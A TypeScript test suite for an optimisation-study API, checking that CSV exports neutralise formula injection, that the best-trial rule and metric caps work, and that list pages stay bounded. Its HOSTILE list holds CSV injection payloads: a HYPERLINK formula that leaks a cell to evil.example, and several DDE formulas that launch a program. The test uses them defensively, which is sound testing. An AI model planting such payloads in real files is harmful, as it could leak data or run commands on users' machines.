import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { DataSource } from 'typeorm';
import {
  auth,
  createKey,
  createProject,
  createStudy,
  expectStatus,
  lease,
  projectKey,
  quadraticStudy,
  registerRunner,
  report,
  type TestRunner,
} from '../support/api-client';
import { PAGE_BYTES } from '../../api/src/database/page-bytes';
import { startTestServer, type TestServer } from '../support/test-server';

/** Text a runner or a user controls that a spreadsheet would run as a formula (OWASP's examples). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  'a,=1+1;=2+2',
  'line\n=1+1',
];

/** RFC 4180 reader: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let wasQuoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') {
      quoted = true;
      wasQuoted = true;
    } else if (char === ',' || char === '\n') {
      row.push(wasQuoted ? `\u0000${cell}` : cell);
      cell = '';
      wasQuoted = false;
      if (char === '\n') {
        rows.push(row);
        row = [];
      }
    } else cell += char;
  }
  return rows;
}

const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/;

describe('bounded reads: history, best, metrics, CSV', () => {
  let test: TestServer;
  let userKey: string;
  let runnerKey: string;
  let runner: TestRunner;

  before(async () => {
    test = await startTestServer();
    userKey = await createKey(test, 'user');
    runnerKey = await createKey(test, 'runner');
    runner = await registerRunner(test, runnerKey);
  });
  after(async () => test.close());

  async function leaseOf(studyId: string): Promise<{ id: string; parameters: Record<string, unknown> }> {
    return expectStatus(await lease(test, runner, studyId), 200).body.trial as {
      id: string;
      parameters: Record<string, unknown>;
    };
  }

  it('CSV export: text cells starting like a formula get a leading quote and are quoted; numbers stay numbers', async () => {
    const study = await createStudy(
      test,
      userKey,
      quadraticStudy({
        name: 'csv injection',
        parameters: [
          { name: 'x', type: 'real', lower: -5, upper: 5 },
          { name: 'c', type: 'categorical', values: [...HOSTILE, 'plain'] },
        ],
        x0: [],
        budget: { maxEvaluations: HOSTILE.length + 1, leaseSeconds: 60 },
      }),
    );
    const studyId = String(study.id);
    for (const value of HOSTILE) {
      expectStatus(
        await test.http
          .post(`/v1/studies/${studyId}/trials`)
          .set(...auth(userKey))
          .send({ parameters: { x: -1.5, c: value } }),
        201,
      );
    }
    // Every enqueued point completes with a negative objective, except one that fails with a hostile message.
    for (let index = 0; index < HOSTILE.length; index += 1) {
      const trial = await leaseOf(studyId);
      if (index === 0) {
        expectStatus(await report(test, runner, trial.id, 'fail', { error: '=cmd|" /C calc"!A0' }), 200);
      } else {
        expectStatus(await report(test, runner, trial.id, 'complete', { outputs: { loss: -1.5 } }), 200);
      }
    }
    const csv = expectStatus(
      await test.http.get(`/v1/studies/${studyId}/history?format=csv`).set(...auth(userKey)),
      200,
    );
    assert.match(csv.headers['content-type'], /text\/csv/);
    const rows = parseCsv(csv.text);
    const header = rows[0];
    assert.deepEqual(header, [
      'number',
      'status',
      'origin',
      'x',
      'c',
      'loss',
      'error',
      'runner_id',
      'started_at',
      'finished_at',
    ]);
    assert.equal(rows.length, 1 + HOSTILE.length);
    const seen = new Set<string>();
    for (const row of rows.slice(1)) {
      assert.equal(row.length, header.length, `one cell per column: ${JSON.stringify(row)}`);
      for (const raw of row) {
        const quoted = raw.startsWith('\u0000');
        const cell = quoted ? raw.slice(1) : raw;
        if (!quoted && NUMBER.test(cell)) continue; // a bare number, e.g. -1.5
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a text cell never starts like a formula: ${JSON.stringify(cell)}`);
      }
      const c = row[header.indexOf('c')];
      assert.ok(c.startsWith('\u0000'), `a categorical value with formula characters is quoted: ${JSON.stringify(c)}`);
      seen.add(c.slice(1));
      assert.equal(row[header.indexOf('x')], '-1.5', 'numeric parameter values stay bare numbers');
      const status = row[header.indexOf('status')];
      if (status === 'completed') assert.equal(row[header.indexOf('loss')], '-1.5');
      else assert.equal(row[header.indexOf('error')], `\u0000'=cmd|" /C calc"!A0`);
    }
    // The text itself is kept: only a leading quote is added where it starts like a formula.
    assert.deepEqual(
      [...seen].sort(),
      HOSTILE.map((value) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value)).sort(),
    );
    const json = expectStatus(await test.http.get(`/v1/studies/${studyId}/history`).set(...auth(userKey)), 200).body;
    assert.equal(json.items.length, HOSTILE.length);
  });

  it('/best follows the engine rule stored at tell time: a constraint of 5e-14 is feasible', async () => {
    const study = await createStudy(
      test,
      userKey,
      quadraticStudy({
        name: 'best rule',
        outputs: [
          { name: 'loss', type: 'objective' },
          { name: 'c', type: 'constraint_pb' },
        ],
        x0: [
          { x: 1, y: 1 },
          { x: 2, y: 2 },
          { x: 3, y: 3 },
        ],
      }),
    );
    const studyId = String(study.id);
    expectStatus(await test.http.get(`/v1/studies/${studyId}/best`).set(...auth(userKey)), 404);
    const outcomes = [
      { loss: 1, c: 5e-14 }, // feasible to MADS (h below 1e-13)
      { loss: 2, c: 1e-14 }, // feasible too, worse objective
      { loss: 0.5, c: 1 }, // infeasible, better objective
    ];
    const numbers = new Map<number, number>();
    for (const outputs of outcomes) {
      const trial = await leaseOf(studyId);
      const done = expectStatus(await report(test, runner, trial.id, 'complete', { outputs }), 200).body;
      numbers.set(outputs.loss, done.number as number);
    }
    const best = expectStatus(await test.http.get(`/v1/studies/${studyId}/best`).set(...auth(userKey)), 200).body;
    assert.equal(best.number, numbers.get(1));
    assert.equal(best.feasible, true);
    const history = expectStatus(await test.http.get(`/v1/studies/${studyId}/history`).set(...auth(userKey)), 200).body
      .items as { outputs: { loss: number }; feasible: boolean }[];
    assert.deepEqual(
      history.map((trial) => [trial.outputs.loss, trial.feasible]),
      [
        [1, true],
        [2, true],
        [0.5, false],
      ],
    );
  });

  it('a maximised objective: /best takes the largest feasible value', async () => {
    const study = await createStudy(
      test,
      userKey,
      quadraticStudy({
        name: 'maximise',
        outputs: [{ name: 'accuracy', type: 'objective', goal: 'maximize' }],
        x0: [
          { x: 1, y: 1 },
          { x: 2, y: 2 },
        ],
      }),
    );
    const studyId = String(study.id);
    for (const accuracy of [0.9, 0.7]) {
      const trial = await leaseOf(studyId);
      expectStatus(await report(test, runner, trial.id, 'complete', { outputs: { accuracy } }), 200);
    }
    const best = expectStatus(await test.http.get(`/v1/studies/${studyId}/best`).set(...auth(userKey)), 200).body;
    assert.equal(best.outputs.accuracy, 0.9);
  });

  it('metrics: at most 10,000 points over 100 names a trial; beyond, heartbeats drop and count them', async () => {
    const study = await createStudy(test, userKey, quadraticStudy({ name: 'metrics' }));
    const trial = await leaseOf(String(study.id));
    const beat = async (metrics: { name: string; step: number; value: number }[]): Promise<number> =>
      expectStatus(await report(test, runner, trial.id, 'heartbeat', { metrics }), 200).body.metricsDropped as number;
    for (let batch = 0; batch < 10; batch += 1) {
      const points = Array.from({ length: 1000 }, (_, index) => ({
        name: 'loss',
        step: batch * 1000 + index,
        value: 1,
      }));
      assert.equal(await beat(points), 0);
    }
    assert.equal(await beat([{ name: 'loss', step: 10_000, value: 1 }]), 1, 'the 10,001st point is dropped');
    assert.equal(await beat([{ name: 'loss', step: 5, value: 2 }]), 0, 'a stored point can still be overwritten');
    const stored = expectStatus(await test.http.get(`/v1/trials/${trial.id}`).set(...auth(userKey)), 200).body;
    assert.equal(stored.metrics.length, 10_000);
    assert.equal(stored.metrics.find((point: { step: number }) => point.step === 5).value, 2);

    const other = await createStudy(test, userKey, quadraticStudy({ name: 'metric names' }));
    const named = await leaseOf(String(other.id));
    const names = Array.from({ length: 101 }, (_, index) => ({
      name: `m${String(index).padStart(3, '0')}`,
      step: 0,
      value: 1,
    }));
    const reply = expectStatus(await report(test, runner, named.id, 'heartbeat', { metrics: names }), 200).body;
    assert.equal(reply.metricsDropped, 1, 'the 101st name is dropped');
    const namedTrial = expectStatus(await test.http.get(`/v1/trials/${named.id}`).set(...auth(userKey)), 200).body;
    assert.equal(new Set(namedTrial.metrics.map((point: { name: string }) => point.name)).size, 100);
  });

  it('pages and export batches of the largest trials a study may hold stay within PAGE_BYTES, and still walk every trial', async () => {
    // Each trial as large as the API lets it be: 200 parameters of 64-character names and
    // 200-character values, 100 outputs, a 16 KiB effective configuration, a 2,000-character
    // adapter location (about 90 KB a row). 500 of them were a 40 MB page (finding 18).
    const names = Array.from({ length: 200 }, (_, index) => `p${String(index).padStart(3, '0')}${'n'.repeat(60)}`);
    const outputs = Array.from({ length: 100 }, (_, index) => `o${String(index).padStart(2, '0')}${'m'.repeat(61)}`);
    const study = await createStudy(
      test,
      userKey,
      quadraticStudy({
        name: 'large trials',
        parameters: names.map((name, index) => ({
          name,
          type: 'categorical',
          values: [`${'v'.repeat(190)}-${index}-a`, `${'v'.repeat(190)}-${index}-b`],
        })),
        outputs: outputs.map((name, index) => (index === 0 ? { name, type: 'objective' } : { name, type: 'extra' })),
        x0: [],
        budget: { maxEvaluations: 1000 },
      }),
    );
    const studyId = String(study.id);
    const count = 300;
    await test.get(DataSource).query(
      `INSERT INTO trials (study_id, number, status, origin, point, point_key, parameters, attempt, outputs,
              effective_config, adapter, told, evaluation_number, objective, infeasibility, feasible, started_at, finished_at)
       SELECT $1, n, 'completed', 'random', (SELECT jsonb_agg(0) FROM generate_series(1, 200)), 'large' || n,
              (SELECT jsonb_object_agg(name, repeat('v', 190) || '-' || i || '-a') FROM unnest($2::text[]) WITH ORDINALITY AS p(name, i)),
              1,
              (SELECT jsonb_object_agg(name, -1.2345678901234567e-300 * i) FROM unnest($3::text[]) WITH ORDINALITY AS o(name, i)),
              jsonb_build_object('blob', repeat('c', 16 * 1024 - 20)),
              jsonb_build_object('location', repeat('a', 2000)),
              true, n, -n, 0, true, now(), now()
         FROM generate_series(1, $4::int) AS n`,
      [studyId, names, outputs, count],
    );
    const bound = PAGE_BYTES + 200 * 1024; // the bound, and the one row that may pass it
    const walk = async (status: string): Promise<number[]> => {
      const numbers: number[] = [];
      for (let pages = 0; pages < count; pages += 1) {
        const page = expectStatus(
          await test.http
            .get(`/v1/studies/${studyId}/trials?limit=500&offset=${numbers.length}${status}`)
            .set(...auth(userKey)),
          200,
        );
        assert.ok(page.text.length <= bound, `a trial page of ${page.text.length} bytes`);
        assert.equal(page.body.total, count);
        numbers.push(...page.body.items.map((trial: { number: number }) => trial.number));
        if (page.body.items.length === 0 || numbers.length >= count) break;
        assert.ok(page.body.items.length < 500, 'these trials do not fit 500 to a page');
      }
      return numbers;
    };
    const every = Array.from({ length: count }, (_, index) => index + 1);
    assert.deepEqual(await walk(''), every, 'walking by offset + items received visits every trial once');
    assert.deepEqual(await walk('&status=completed'), every);

    const history: number[] = [];
    let cursor: string | null = null;
    do {
      const query: string = cursor === null ? '?limit=500' : `?limit=500&cursor=${cursor}`;
      const page = expectStatus(
        await test.http.get(`/v1/studies/${studyId}/history${query}`).set(...auth(userKey)),
        200,
      );
      assert.ok(page.text.length <= bound, `a history page of ${page.text.length} bytes`);
      history.push(...page.body.items.map((trial: { number: number }) => trial.number));
      cursor = page.body.nextCursor as string | null;
    } while (cursor !== null && history.length <= count);
    assert.deepEqual(history, every, 'the history pages follow nextCursor through every trial once');

    const csv = expectStatus(
      await test.http.get(`/v1/studies/${studyId}/history?format=csv`).set(...auth(userKey)),
      200,
    );
    const rows = parseCsv(csv.text);
    assert.equal(rows.length, 1 + count, 'the export streams every trial, batch after batch');
    assert.equal(rows[count][rows[0].indexOf(names[0])], `${'v'.repeat(190)}-1-a`);
  });

  it('a page of the largest study summaries stays within PAGE_BYTES, and walking by offset + items visits every study', async () => {
    // 200-character names, 5,000-character descriptions, 100 outputs of 64-character names, 50
    // required labels of 100 characters: about 20 KB a summary; 500 of them were 10 MB (finding 18).
    const projectId = await createProject(test, { name: 'large-summaries' });
    const key = await projectKey(test, 'user', projectId);
    const count = 260;
    const outputs = Array.from({ length: 100 }, (_, index) => ({
      name: `o${String(index).padStart(2, '0')}${'m'.repeat(61)}`,
      type: index === 0 ? 'objective' : 'extra',
    }));
    const labels = Array.from({ length: 50 }, (_, index) => `${String(index).padStart(2, '0')}${'l'.repeat(98)}`);
    for (let chunk = 0; chunk < count; chunk += 20) {
      await Promise.all(
        Array.from({ length: 20 }, (_, index) =>
          createStudy(
            test,
            key,
            quadraticStudy({
              name: `${String(chunk + index).padStart(3, '0')}${'n'.repeat(197)}`,
              description: 'd'.repeat(5000),
              outputs,
              requiredRunnerLabels: labels,
            }),
          ),
        ),
      );
    }
    const bound = PAGE_BYTES + 200 * 1024;
    const names: string[] = [];
    let pages = 0;
    while (pages < count) {
      const page = expectStatus(
        await test.http.get(`/v1/studies?limit=500&offset=${names.length}`).set(...auth(key)),
        200,
      );
      pages += 1;
      assert.ok(page.text.length <= bound, `a study page of ${page.text.length} bytes`);
      assert.equal(page.body.total, count);
      names.push(...(page.body.items as { name: string }[]).map((study) => study.name));
      if (page.body.items.length === 0 || names.length >= count) break;
    }
    assert.equal(names.length, count);
    assert.equal(new Set(names).size, count, 'every study once');
    assert.ok(pages > 1, 'the summaries take more than one page');
  });

  it('a page of the largest runners stays within PAGE_BYTES, and walking by offset + items visits every runner', async () => {
    // 200-character names, 50 labels of 100 characters, a 10,000-character last failure: about
    // 15 KB a runner (finding 18). Written in PostgreSQL: registering and failing 400 runners
    // over HTTP would only slow the test.
    const projectId = await createProject(test, { name: 'large-runners' });
    const key = await projectKey(test, 'user', projectId);
    const count = 400;
    const labels = Array.from({ length: 50 }, (_, index) => `${String(index).padStart(2, '0')}${'l'.repeat(98)}`);
    await test.get(DataSource).query(
      `INSERT INTO runners (name, labels, project_id, last_seen_at, last_failure)
       SELECT lpad(n::text, 3, '0') || repeat('n', 197), $2::jsonb, $1, now() - n * interval '1 second', repeat('f', 10000)
         FROM generate_series(1, $3::int) AS n`,
      [projectId, JSON.stringify(labels), count],
    );
    const bound = PAGE_BYTES + 200 * 1024;
    const names: string[] = [];
    let pages = 0;
    while (pages < count) {
      const page = expectStatus(
        await test.http.get(`/v1/runners?limit=500&offset=${names.length}`).set(...auth(key)),
        200,
      );
      pages += 1;
      assert.ok(page.text.length <= bound, `a runner page of ${page.text.length} bytes`);
      assert.equal(page.body.total, count);
      names.push(...(page.body.items as { name: string }[]).map((runner) => runner.name));
      if (page.body.items.length === 0 || names.length >= count) break;
    }
    assert.equal(names.length, count);
    assert.equal(new Set(names).size, count, 'every runner once');
    assert.ok(pages > 1, 'the runners take more than one page');
  });

  describe('every list and export is bounded', () => {
    let studyId: string;
    const finished = 1203;

    before(async () => {
      // Many rows of every listed kind: more than the largest page.
      for (let index = 0; index < 505; index += 1) {
        await test.http
          .post('/v1/api-keys')
          .set(...auth(test.adminKey))
          .send({ name: `key ${index}`, scope: 'user' });
        await registerRunner(test, runnerKey, `runner ${index}`);
        await test.http
          .post('/v1/projects')
          .set(...auth(test.adminKey))
          .send({ name: `project-${index}` })
          .expect(201);
      }
      for (let chunk = 0; chunk < 505; chunk += 25) {
        await Promise.all(
          Array.from({ length: 25 }, (_, index) =>
            createStudy(test, userKey, quadraticStudy({ name: `bulk ${chunk + index}` })),
          ),
        );
      }
      const dataSource = test.get(DataSource);
      studyId = String((await createStudy(test, userKey, quadraticStudy({ name: 'long history' }))).id);
      await dataSource.query(
        `INSERT INTO trials (study_id, number, status, origin, point, point_key, parameters, attempt, outputs,
                told, evaluation_number, objective, infeasibility, feasible, started_at, finished_at)
         SELECT $1, 100 + n, 'completed', 'random', jsonb_build_array(n), 'bulk' || n,
                jsonb_build_object('x', n, 'y', 0), 1, jsonb_build_object('loss', -n), true, n, -n, 0, true, now(), now()
           FROM generate_series(1, $2::int) AS n`,
        [studyId, finished],
      );
      // More runners declining the study than the largest page of its runner declines.
      await dataSource.query(
        `INSERT INTO runner_study_declines (runner_id, study_id, reason, declined_at)
         SELECT r.id, $1, 'trainData: a local path this runner does not allow', now() FROM runners r LIMIT 505`,
        [studyId],
      );
    });

    it('every GET route answering a list takes a bounded limit and a cursor or offset, and honours them', async () => {
      const document = expectStatus(await test.http.get('/openapi.json'), 200).body as {
        paths: Record<
          string,
          Record<
            string,
            {
              parameters?: { name: string; in: string; schema?: { maximum?: number } }[];
              responses: Record<string, { content?: Record<string, { schema?: { $ref?: string } }> }>;
            }
          >
        >;
        components: { schemas: Record<string, { properties?: Record<string, { type?: string }> }> };
      };
      const lists = Object.entries(document.paths).flatMap(([path, methods]) => {
        const operation = methods.get;
        const ref = operation?.responses['200']?.content?.['application/json']?.schema?.$ref;
        const schema = ref === undefined ? undefined : document.components.schemas[ref.split('/').pop()!];
        return schema?.properties?.items?.type === 'array' ? [{ path, operation: operation! }] : [];
      });
      assert.deepEqual(
        lists.map((list) => list.path).sort(),
        [
          '/v1/api-keys',
          '/v1/projects',
          '/v1/runners',
          '/v1/studies',
          '/v1/studies/{studyId}/history',
          '/v1/studies/{studyId}/runner-declines',
          '/v1/studies/{studyId}/trials',
        ],
        'a new list route must be added to this test',
      );
      for (const { path, operation } of lists) {
        const query = new Map((operation.parameters ?? []).filter((p) => p.in === 'query').map((p) => [p.name, p]));
        const max = query.get('limit')?.schema?.maximum;
        assert.ok(max !== undefined && max <= 500, `${path}: limit has a maximum of at most 500`);
        assert.ok(query.has('offset') || query.has('cursor'), `${path}: pages by offset or cursor`);
        const url = path.replace('{studyId}', studyId);
        const bare = expectStatus(await test.http.get(url).set(...auth(test.adminKey)), 200);
        assert.ok(bare.body.items.length <= max, `${path}: ${bare.body.items.length} items without a limit`);
        assert.ok(bare.text.length < 2 * 1024 * 1024, `${path}: ${bare.text.length} bytes without a limit`);
        const full = expectStatus(await test.http.get(`${url}?limit=${max}`).set(...auth(test.adminKey)), 200);
        assert.equal(full.body.items.length, max, `${path}: more rows than a page exist, so a page is full`);
        assert.ok(full.body.nextCursor !== undefined || full.body.total > max, `${path}: says more follow`);
        expectStatus(await test.http.get(`${url}?limit=${max + 1}`).set(...auth(test.adminKey)), 400);
      }
    });

    it('JSON history: pages follow nextCursor through every finished trial once, in evaluation order', async () => {
      const seen: number[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const query: string = cursor === null ? '?limit=500' : `?limit=500&cursor=${cursor}`;
        const page = expectStatus(
          await test.http.get(`/v1/studies/${studyId}/history${query}`).set(...auth(userKey)),
          200,
        ).body as { items: { number: number }[]; nextCursor: string | null };
        seen.push(...page.items.map((trial) => trial.number));
        cursor = page.nextCursor;
        pages += 1;
      } while (cursor !== null);
      assert.equal(pages, 3);
      assert.deepEqual(
        seen,
        Array.from({ length: finished }, (_, index) => 101 + index),
      );
      const bad = expectStatus(
        await test.http.get(`/v1/studies/${studyId}/history?cursor=abc`).set(...auth(userKey)),
        400,
      ).body;
      assert.match(JSON.stringify(bad), /cursor/);
    });

    it('CSV and NOMAD exports stream the whole history (every trial, one line each)', async () => {
      const csv = expectStatus(
        await test.http.get(`/v1/studies/${studyId}/history?format=csv`).set(...auth(userKey)),
        200,
      );
      assert.equal(csv.headers['content-length'], undefined, 'streamed: no length known in advance');
      assert.equal(csv.text.trim().split('\n').length, 1 + finished);
      const nomad = expectStatus(
        await test.http.get(`/v1/studies/${studyId}/history?format=nomad`).set(...auth(userKey)),
        200,
      );
      const lines = nomad.text.trim().split('\n');
      assert.equal(lines.length, finished);
      assert.equal(lines[0], '1 -1');
      assert.equal(lines[finished - 1], `${finished} -${finished}`);
    });

    it('/best is the indexed row: the best of many stored results', async () => {
      const best = expectStatus(await test.http.get(`/v1/studies/${studyId}/best`).set(...auth(userKey)), 200).body;
      assert.equal(best.outputs.loss, -finished);
    });
  });
});
